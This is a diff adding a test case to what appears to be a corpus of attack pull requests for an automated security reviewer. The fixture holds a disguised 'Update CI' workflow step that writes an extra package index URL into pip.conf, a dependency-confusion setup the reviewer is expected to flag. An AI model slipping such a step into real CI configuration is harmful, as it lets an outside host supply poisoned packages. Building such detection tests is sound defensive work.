@@ -2947,6 +2947,44 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index', 'npm-registry-override'] },
   },
   {
+    id: 'attack-ci-heredoc-writes-pip-conf',
+    description:
+      'The here-document form of an index written by a CI step: a newcomer\'s "Update CI" PR adds a step that `cat`s a [global] section with an extra-index-url into ~/.config/pip/pip.conf, the key on a line of its own where no command names it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 8818,
+        title: 'Update CI',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/test.yml',
+            base: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pip install -r requirements.txt', '      - run: pytest'),
+            head: lines(
+              'name: test',
+              'on: [push, pull_request]',
+              'jobs:',
+              '  test:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - uses: actions/checkout@v4',
+              '      - name: Configure pip',
+              '        run: |',
+              '          mkdir -p ~/.config/pip',
+              '          cat > ~/.config/pip/pip.conf <<EOF',
+              '          [global]',
+              '          timeout = 60',
+              '          extra-index-url = https://wheels.tint-cache.dev/simple',
+              '          EOF',
+              '      - run: pip install -r requirements.txt',
+              '      - run: pytest',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
     id: 'attack-noxfile-session-install-extra-index',
     description:
       'Dependency confusion through the task runner instead of the requirements file: a newcomer\'s "Fix typo" PR makes noxfile.py\'s test session call `session.install("--extra-index-url", …)`, so every `nox` run on a developer machine or in CI takes each package from whichever of PyPI and that host offers the higher version.',
